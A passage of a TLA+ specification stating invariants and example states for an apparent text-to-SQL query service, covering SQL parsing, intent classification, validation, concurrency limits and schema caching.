          IF startsWith(n.matchedText, "action", 0)
          THEN includes(KNOWN_ACTION_VALUES, n.children[i].matchedText)
          ELSE includes(KNOWN_EVENT_TYPES, n.children[i].matchedText)

\* From offset p of s: one or more values, each between single quotes,
\* separated by ", " and closed by ")".
RECURSIVE quotedListAt(_, _)
quotedListAt(s, p) ==
  LET value(n) ==
        /\ n >= 1
        /\ startsWith(s, "'", p + 1 + n)
        /\ \/ startsWith(s, ")", p + 2 + n)
           \/ startsWith(s, ", ", p + 2 + n) /\ quotedListAt(s, p + 4 + n)
  IN startsWith(s, "'", p) /\ value(classRun(s, p + 1, StringValueChar, 100))

\* C20: in every accepted query the text after each "IN (" is one or more
\* quoted values separated by ", " up to the closing ")", with no dangling
\* separator and no unclosed quote, and the condition's node holds every
\* value consumed: its text, rebuilt from its children, is in the input.
InListWellFormed ==
  accepted =>
    /\ \A p \in occurrences(input, " IN (") : quotedListAt(input, p + 5)
    /\ \A n \in descendants(result) :
         (n.rule \in {"string_condition", "enum_condition"}
            /\ occurrences(n.matchedText, " IN (") # {})
           => contains(input, n.matchedText)

\* ------------------------------------------------------------------------
\* Properties of the recorded text
\* ------------------------------------------------------------------------

\* C21: whichever rule function returned an internal node, at whichever
\* cursor position, the node's matchedText is character for character the
\* input text the call consumed, from the cursor on entry to the cursor on
\* return; a list rule therefore never stops behind a separator that no item
\* follows.
ConsumedIsRecorded ==
  (pc # "call" /\ result # Null /\ Len(result.children) > 0) =>
    result.matchedText = SubSeq(input, entry + 1, pos)

\* ------------------------------------------------------------------------
\* Properties of alias references
\* ------------------------------------------------------------------------

\* C22: for every alias a of the ALIAS terminal, also one that begins with a
\* column name, "SELECT count() AS a FROM github_events ORDER BY a DESC" is
\* accepted.
AliasReferenceAccepted ==
  (pc = "done" /\ sql \in AliasQueries) =>
    /\ \A a \in Aliases : parseAlias(a, 0).pos = Len(a)
    /\ accepted

\* ------------------------------------------------------------------------
\* Properties of parseCondition
\* ------------------------------------------------------------------------

CONDITION_KINDS ==
  {"parseDatetimeCondition", "parseEnumCondition", "parseStringCondition",
   "parseNumericCondition"}

\* The condition parsers that return a node at offset p of s.
matchingKinds(s, p) ==
  {k \in CONDITION_KINDS : applyRule(k, s, p).node # Null}

\* C23: at every cursor position of every input at most one of the four
\* condition parsers returns a node, and parseCondition returns that node
\* (null when there is none), whatever the order in which it tries them.
ConditionKindsExclusive ==
  pc = "parseCondition" =>
    /\ Cardinality(matchingKinds(input, entry)) <= 1
    /\ \A k \in matchingKinds(input, entry) :
         /\ result = applyRule(k, input, entry).node
         /\ pos = applyRule(k, input, entry).pos
    /\ matchingKinds(input, entry) = {} => result = Null

\* parseCondition returned the node of the enum condition on action.
ActionConditionParsed ==
  /\ pc = "parseCondition"
  /\ startsWith(input, "action = 'opened'", entry)
  /\ result.rule = "enum_condition"
  /\ matchingKinds(input, entry) = {"parseEnumCondition"}

\* ------------------------------------------------------------------------
\* Properties of the cursor
\* ------------------------------------------------------------------------

\* C24: whichever rule function was called, at whichever cursor position,
\* it returns with the cursor between its entry position and the end of the
\* input; a node returned has consumed at least one character, so every
\* iteration of a list loop, which consumes its separator and then an item,
\* moves the cursor forward; and a null return has restored the cursor to
\* the position saved on entry.
CursorAdvances ==
  pc # "call" =>
    /\ 0 <= entry /\ entry <= pos /\ pos <= Len(input)
    /\ result # Null => pos > entry
    /\ result = Null => pos = entry

\* parseSelectClause parsed a first item, went once round its ", " loop for
\* a second one and stopped in front of " FROM".
SelectLoopAdvanced ==
  /\ pc = "parseSelectClause"
  /\ result # Null
  /\ Len(result.children) = 2
  /\ entry = 0
  /\ pos = Len(result.matchedText)
  /\ startsWith(input, " FROM", pos)

\* ------------------------------------------------------------------------
\* Properties of the intent gate
\* ------------------------------------------------------------------------

\* C25: generateSQL and executeQuery are called only for a request classified
\* ANSWERABLE (a throw of classifyIntent counts as ANSWERABLE); a request
\* classified AMBIGUOUS, IMPOSSIBLE or OUT_OF_SCOPE has returned without
\* either call; and a request without a query string is answered with an
\* error before any classification.
IntentGating ==
  /\ (generated > 0 \/ executed # <<>>
        \/ pc \in {"generate", "validate", "execute", "adequacy", "respond"})
       => intent = "ANSWERABLE"
  /\ intent \in {"AMBIGUOUS", "IMPOSSIBLE", "OUT_OF_SCOPE"} =>
       /\ pc = "returned"
       /\ generated = 0
       /\ executed = <<>>
       /\ response.intentClassification = intent
  /\ (pc # "request" /\ query = "") =>
       /\ pc = "returned"
       /\ response.status = "error"
       /\ response.http = 400
       /\ intent = ""
       /\ generated = 0
       /\ executed = <<>>

\* A request classified AMBIGUOUS was answered with a request for
\* clarification and nothing was generated or executed.
AmbiguousAnswered ==
  /\ pc = "returned"
  /\ intent = "AMBIGUOUS"
  /\ response.status = "clarification_needed"
  /\ generated = 0
  /\ executed = <<>>

\* ------------------------------------------------------------------------
\* Properties of the success response
\* ------------------------------------------------------------------------

\* C26: in every "success" response the rows are those of executing the sql
\* string of that response, which is the string executed last, and
\* grammarDerivation is parseQuery of that string.
SuccessIsOfOneAttempt ==
  (pc = "returned" /\ response.status = "success") =>
    /\ response.sql = sql
    /\ executed # <<>>
    /\ executed[Len(executed)] = response.sql
    /\ response.rows = <<response.sql>>
    /\ response.grammarDerivation = parseQuery(response.sql)

\* A success on the second attempt, after the first attempt's different SQL
\* had been executed and judged inadequate.
SecondAttemptSucceeded ==
  /\ pc = "returned"
  /\ response.status = "success"
  /\ attempt = 2
  /\ Len(executed) = 2
  /\ executed[1] # executed[2]
  /\ feedback.kind = "adequacy"

\* ------------------------------------------------------------------------
\* Properties of validateSQL
\* ------------------------------------------------------------------------

\* C27: validateSQL reports valid with no errors whatever the verdicts of its
\* four checks, so the step after validation is always the execution: no
\* retry with validation feedback and no validation error response.
ValidationNeverFails ==
  /\ [](/\ validation.valid
        /\ validation.errors = {}
        /\ feedback.kind # "validation")
  /\ [][pc = "validate" => pc' = "execute"]_vars

\* All four checks failed, the result was still valid and the query went on
\* to be executed.
AllChecksWarned ==
  /\ pc = "execute"
  /\ validation.valid
  /\ validation.warnings = CHECKS

\* ------------------------------------------------------------------------
\* Properties of runConcurrent
\* ------------------------------------------------------------------------

\* The tasks that were started and have not finished.
inFlight == {i \in DOMAIN tasks : tasks[i].state = "running"}

\* C28: whatever the order in which tasks finish, and whether they resolve or
\* reject, the number of tasks started and not yet finished is never above
\* the limit and never above the number of tasks.
InFlightBounded ==
  /\ Cardinality(inFlight) <= concurrency
  /\ Cardinality(inFlight) <= Cardinality(DOMAIN tasks)

\* Three tasks under limit 2: the second task finished before the first, and
\* the third was started in its place.
LimitReached ==
  /\ concurrency = 2
  /\ DOMAIN tasks = 0..2
  /\ tasks[1].state = "resolved"
  /\ inFlight = {0, 2}

\* C29: with a limit of at least 1, no task is started twice, and when the
\* promise of runConcurrent resolves every task has been started exactly once
\* and has resolved, and results[i] is the value task i resolved with.
EveryTaskOnceInOrder ==
  concurrency >= 1 =>
    /\ \A i \in DOMAIN tasks : started[i] <= 1
    /\ settled = "resolved" =>
         \A i \in DOMAIN tasks :
           /\ started[i] = 1
           /\ tasks[i].state = "resolved"
           /\ tasks[i].value \in TaskValues
           /\ results[i] = tasks[i].value

\* Three tasks under limit 2 all resolved, the second before the first (the
\* second worker went on to the third task), with two different values.
ResolvedOutOfOrder ==
  /\ settled = "resolved"
  /\ concurrency = 2
  /\ DOMAIN tasks = 0..2
  /\ workers[1].i = 0
  /\ workers[2].i = 2
  /\ results[0] # results[1]

\* ------------------------------------------------------------------------
\* Properties of the schema cache
\* ------------------------------------------------------------------------

\* C30: a non-null cachedSchema changes only by becoming null
\* (invalidateSchemaCache), so no call of getTableSchema, one in flight
\* included, replaces it with a different schema; and a call made while
\* cachedSchema is non-null returns that value without a query.
CacheOnlyInvalidated ==
  /\ [][(cachedSchema # NoSchema /\ cachedSchema' # cachedSchema)
          => cachedSchema' = NoSchema]_vars
  /\ [](\A c \in DOMAIN calls :
          (calls[c].at # "idle" /\ calls[c].cacheAtCall # NoSchema) =>
            /\ calls[c].at = "returned"
            /\ calls[c].returned = calls[c].cacheAtCall
            /\ \A k \in DOMAIN queried : queried[k] # c)
====
